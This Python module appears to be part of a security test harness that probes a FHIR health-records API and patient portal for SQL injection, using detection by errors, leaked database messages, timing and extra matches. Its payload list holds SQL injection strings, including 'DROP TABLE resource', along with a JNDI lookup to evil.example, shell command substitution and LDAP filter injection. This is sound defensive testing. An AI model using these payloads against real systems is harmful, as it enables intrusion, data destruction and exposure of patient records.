"""
DATA-03: text that would be a statement, in every place that text can be put (CWE-89).

An injection shows itself in four ways: the server breaks, its words give the database away, it takes as long as it was
told to sleep, or it gives what the honest question does not. Each place is first asked honestly.
"""

import json
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx

from meridian.threats.attack import ARSENAL, Attack, NotRun
from meridian.threats.attacker import FHIR, Attacker, Browser

THREAT = "DATA-03"
SLEEP = 3.0
"""Seconds that a statement is told to wait; an answer that takes as long obeyed."""
NOTHING = "Zzqxnothing"
"""A name that nobody has."""
TEXTS = (
    "' OR '1'='1", "' OR 1=1 -- ", "' OR 1=1 #", '" OR ""="', "') OR ('1'='1", "%' OR '%'='", "1 OR 1=1",
    "' UNION SELECT body FROM resource -- ", f"' OR SLEEP({SLEEP:.0f}) -- ",
    "'; SELECT BENCHMARK(100000000, SHA2('x', 512)) -- ", "'; DROP TABLE resource; -- ", "\\' OR 1=1 -- ",
    "\\", "'", "''", "`", "%", "_", "*/ OR 1=1 /*", "\u02bc OR 1=1 -- ", "\u2019 OR \u20191\u2019=\u20191",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(sleep 3)", "|| sleep 3 ||", "*)(uid=*))(|(uid=*",
)  # fmt: skip
"""Of SQL in both dialects, and a few of other languages that text is put into."""
GIVEN_AWAY = (
    "sqlite", "mariadb", "mysql", "syntax error", "operationalerror", "programmingerror", "traceback", "no such table",
    'near "', "you have an error in your sql",
)  # fmt: skip
"""What no answer says."""


@dataclass(frozen=True, slots=True)
class Said:
    """An answer, how long it took, and how many matches it has."""

    answer: httpx.Response
    seconds: float

    @property
    def matches(self) -> int:
        """Entries of a Bundle, or items of a list."""
        try:
            read = self.answer.json()
        except ValueError:
            return 0
        if not isinstance(read, dict):
            return len(read) if isinstance(read, list) else 0
        found = [one.get("resource", {}).get("resourceType") for one in read.get("entry", [])]
        return len([kind for kind in found if kind not in {None, "OperationOutcome", "Bundle"}]) + len(
            read.get("patients", [])
        )


async def said(browser: Browser, method: str, path: str, **more: Any) -> Said:
    """Ask, and look at the clock."""
    began = time.monotonic()
    answer = await browser.ask(method, path, **more)
    return Said(answer, time.monotonic() - began)


def shows(got: Said, text: str, honest: int = 0) -> str | None:
    """What shows that *text* was read as more than text; `None` if nothing does."""
    words = got.answer.text.lower()
    if got.answer.status_code >= httpx.codes.INTERNAL_SERVER_ERROR:
        return f"{text!r} broke it: {got.answer.status_code}"
    if any(sign in words.replace(text.lower(), "") for sign in GIVEN_AWAY):
        return f"{text!r} made it speak of its database"
    if got.seconds >= SLEEP:
        return f"{text!r} took {got.seconds:.1f} s"
    return f"{text!r} found {got.matches} where there are {honest}" if got.matches > honest else None


async def parameters(browser: Browser) -> dict[str, list[tuple[str, str]]]:
    """Every search parameter of every type, as the deployment itself declares them: (name, type)."""
    statement = (await browser.ask("GET", f"{FHIR}/metadata")).json()
    return {
        resource["type"]: [(one["name"], one["type"]) for one in resource.get("searchParam", [])]
        for rest in statement["rest"]
        for resource in rest["resource"]
    }


async def honestly(browser: Browser, attacker: Attacker) -> None:
    """
    See that a search finds what is there, and that nobody is called `NOTHING`.

    Raises:
        NotRun: If not.
    """
    word = attacker.material.people["patient"].word
    found = await said(browser, "GET", f"{FHIR}/Patient?name={word}")
    none = await said(browser, "GET", f"{FHIR}/Patient?name={NOTHING}")
    if (found.matches, none.matches) != (1, 0):
        raise NotRun(f"an honest search finds {found.matches}, and {none.matches} where there is nobody")


async def fhir_searches(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """Every parameter of every type with a text of its own, so that all meet all over the types."""
    texts = 0
    for resource_type, known in (await parameters(browser)).items():
        for name, _ in known:
            for text in (TEXTS[texts % len(TEXTS)], NOTHING + TEXTS[(texts + 7) % len(TEXTS)]):
                yield text, {"method": "GET", "path": f"{FHIR}/{resource_type}?{name}={quote(text)}"}
            texts += 1


async def names(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """Every text as a name, as it is and after a name that nobody has, with every modifier."""
    for text in TEXTS:
        for modifier in ("", ":contains", ":exact"):
            yield text, {"method": "GET", "path": f"{FHIR}/Patient?name{modifier}={quote(NOTHING + text)}"}


async def results(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """What a search's answer is made of: order, includes, counts, pages, elements, chains; and parameters' names."""
    for text in TEXTS:
        for parameter in ("_sort", "_include", "_revinclude", "_count", "_cursor", "_elements", "_summary", "_total"):
            yield text, {"method": "GET", "path": f"{FHIR}/Patient?name={NOTHING}&{parameter}={quote(text)}"}
        yield text, {"method": "GET", "path": f"{FHIR}/Patient?name={NOTHING}&{quote(text)}=x"}
        yield text, {"method": "GET", "path": f"{FHIR}/Observation?patient.name={quote(NOTHING + text)}"}
        yield text, {"method": "GET", "path": f"{FHIR}/Patient?_has:Observation:patient:code={quote(NOTHING + text)}"}
        yield text, {"method": "GET", "path": f"{FHIR}/Observation?code={quote(text)}%7C{quote(NOTHING)}"}


async def headers(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """Headers that are written down, compared or looked up."""
    for text in TEXTS:
        if not text.isascii():
            continue
        for name in ("User-Agent", "X-Request-ID", "If-None-Match", "Accept-Language", "X-Forwarded-For", "Referer"):
            yield text, {"method": "GET", "path": f"{FHIR}/Patient?name={NOTHING}", "headers": {name: text.strip()}}
        cookie = f"__Host-meridian-device={quote(text)}; {browser.cookies and '__Host-meridian=' + browser.token}"
        yield text, {"method": "GET", "path": f"{FHIR}/Patient?name={NOTHING}", "headers": {"Cookie": cookie}}


async def bodies(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """Bodies of FHIR: texts where ids, codes, references and dates belong; none of them is valid."""
    kind = {"Content-Type": "application/fhir+json"}
    for text in TEXTS:
        for wrong in (
            {"resourceType": text},
            {"resourceType": "Patient", "id": text, "gender": text},
            {"resourceType": "Patient", "birthDate": text},
            {"resourceType": "Observation", "status": text, "code": {"text": "x"}},
            {
                "resourceType": "Bundle",
                "type": "batch",
                "entry": [{"request": {"method": "GET", "url": f"Patient?{text}"}}],
            },
        ):
            path = FHIR if wrong["resourceType"] == "Bundle" else f"{FHIR}/Patient"
            yield text, {"method": "POST", "path": path, "content": json.dumps(wrong).encode(), "headers": kind}


async def ids(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """Where an id belongs in an address."""
    for text in TEXTS:
        yield text, {"method": "GET", "path": f"{FHIR}/Patient/{quote(text, safe='')}"}
        yield text, {"method": "GET", "path": f"{FHIR}/{quote(text, safe='')}/x"}
        yield text, {"method": "GET", "path": f"{FHIR}/Patient/x/_history/{quote(text, safe='')}"}


async def sign_in(_: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:
    """The first thing that anybody can write to: address and password."""
    known = attacker.material.people["locked"].email
    for text in TEXTS[:1]:
        yield text, {"method": "POST", "path": "/api/session", "body": {"email": text, "password": text}}
        yield text, {"method": "POST", "path": "/api/session", "body": {"email": known + text, "password": "x" * 20}}


async def patient_search(browser: Browser, attacker: Attacker) -> AsyncIterator[tuple[str, dict[str, Any]]]:  # noqa: ARG001  # as the others
    """The search box of the portal, which the threat models name; twenty a minute are allowed."""
    for text in TEXTS[:12]:
        yield text, {"method": "GET", "path": f"/api/patients/search?q={quote((NOTHING + text)[:100])}"}


Places = Callable[[Browser, Attacker], AsyncIterator[tuple[str, dict[str, Any]]]]
PLACES: Mapping[str, tuple[str, str, Places]] = {
    "search": ("every search parameter of every type", "clinician", fhir_searches),
    "name": ("a name that is searched for", "clinician", names),
    "result": ("order, includes, pages and parameters' names", "clinician", results),
    "header": ("headers and cookies", "clinician", headers),
    "body": ("bodies of FHIR", "clinician", bodies),
    "id": ("ids in addresses", "clinician", ids),
    "sign-in": ("signing in", "", sign_in),
    "patient-search": ("the portal's patient search", "clinician", patient_search),
}
"""Name → what it is, who asks, and the questions."""


def injected(places: Places, part: str) -> Callable[[Attacker], Awaitable[str | None]]:
    """The attack that puts texts into *places*, in the name of a *part* of the material or of nobody."""

    async def run(attacker: Attacker) -> str | None:
        async with attacker.signed_in("clinician") as honest:
            await honestly(honest, attacker)
        attacker.evidence()
        async with attacker.signed_in(part) if part else attacker.browser() as browser:
            async for text, asked in places(browser, attacker):
                if found := shows(await said(browser, asked.pop("method"), asked.pop("path"), **asked), text):
                    return found
        async with attacker.signed_in("clinician") as honest:
            await honestly(honest, attacker)
        return None

    return run


for name, (title, part, places) in PLACES.items():
    ARSENAL.add(Attack(THREAT, f"{THREAT.lower()}/{name}", f"Statements within {title}", injected(places, part)))
